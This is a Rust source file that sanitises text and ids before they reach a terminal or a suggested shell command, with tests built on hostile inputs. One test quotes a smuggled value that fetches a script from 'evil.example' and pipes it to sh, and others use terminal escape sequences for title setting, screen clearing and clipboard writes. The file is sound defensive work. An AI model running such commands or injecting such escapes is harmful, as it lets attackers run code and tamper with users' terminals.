//! Text from the server or an agent made safe to print, and ids made safe to paste: a task
//! name or a conversation may hold escape codes (a window title, a clipboard write, a
//! cleared screen) and a deployment id shell syntax; neither may reach a terminal or a
//! suggested command as is.

use std::fmt::Write as _;

/// `text` with every control character made visible, newlines and tabs kept: for
/// multi-line content such as the conversation. `\r\n` counts as a newline.
pub fn safe(text: &str) -> String {
    visible(&text.replace("\r\n", "\n"), true)
}

/// `text` on one line: every control character made visible, newlines and tabs too. For
/// names, ids, statuses and errors.
pub fn line(text: &str) -> String {
    visible(text, false)
}

/// C0 controls and DEL in caret notation (`ESC` is `^[`, `NUL` `^@`, `CR` `^M`, as
/// `cat -v` shows them); C1 controls and the bidirectional overrides (which reorder what a
/// terminal shows) as `\u{..}`.
fn visible(text: &str, keep_lines: bool) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' if keep_lines => shown.push(c),
            '\0'..='\u{1f}' => {
                shown.push('^');
                shown.push(char::from(c as u8 + 0x40));
            }
            '\u{7f}' => shown.push_str("^?"),
            c if is_c1_or_bidi(c) => {
                let _ = write!(shown, "\\u{{{:x}}}", c as u32);
            }
            c => shown.push(c),
        }
    }
    shown
}

/// A C1 control (`U+0080`–`U+009F`, among them the 8-bit CSI) or a bidirectional override:
/// printable for JSON, yet acted on or reordered by terminals.
pub fn is_c1_or_bidi(c: char) -> bool {
    matches!(c, '\u{80}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `word` as one shell word, to paste into a suggested command: as is when it is made of
/// `[A-Za-z0-9_.:/@%+=,-]` only, in single quotes when it is printable, else in `$'…'`
/// with every control character as `\xHH` (bash, zsh, ksh and POSIX.1-2024 sh), so what
/// is printed is both harmless on a terminal and exactly the word.
pub fn shell_quote(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_.:/@%+=,-".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    if line(word) == word {
        return format!("'{}'", word.replace('\'', r"'\''"));
    }
    let mut quoted = String::from("$'");
    for c in word.chars() {
        match c {
            '\'' | '\\' => {
                quoted.push('\\');
                quoted.push(c);
            }
            c if line(c.encode_utf8(&mut [0; 4])).len() != c.len_utf8() => {
                for byte in c.encode_utf8(&mut [0; 4]).bytes() {
                    let _ = write!(quoted, "\\x{byte:02x}");
                }
            }
            c => quoted.push(c),
        }
    }
    quoted.push('\'');
    quoted
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_characters_are_made_visible() {
        let hostile = "a\u{1b}]0;title\u{7}b\u{1b}[2J\r\u{1b}[2Kc\0d\u{7f}e\u{9b}31mf\u{202e}g";
        let shown = line(hostile);
        assert_eq!(
            shown,
            "a^[]0;title^Gb^[[2J^M^[[2Kc^@d^?e\\u{9b}31mf\\u{202e}g"
        );
        assert!(!shown.chars().any(char::is_control));
        assert_eq!(line("one\ntwo\tthree"), "one^Jtwo^Ithree");
        assert_eq!(safe("one\r\ntwo\n\tthree\rx"), "one\ntwo\n\tthree^Mx");
        assert_eq!(safe("é€ plain"), "é€ plain");
    }

    #[test]
    fn words_are_quoted_for_the_shell_only_when_needed() {
        assert_eq!(shell_quote("A-1b2c"), "A-1b2c");
        assert_eq!(shell_quote("378"), "378");
        assert_eq!(
            shell_quote("A-1 && curl -s http://evil.example/x | sh #"),
            "'A-1 && curl -s http://evil.example/x | sh #'"
        );
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(
            shell_quote("a\u{1b}]52;c;x\u{7}'"),
            r"$'a\x1b]52;c;x\x07\''"
        );
        assert_eq!(shell_quote("a\u{9b}b"), r"$'a\xc2\x9bb'");
    }
}
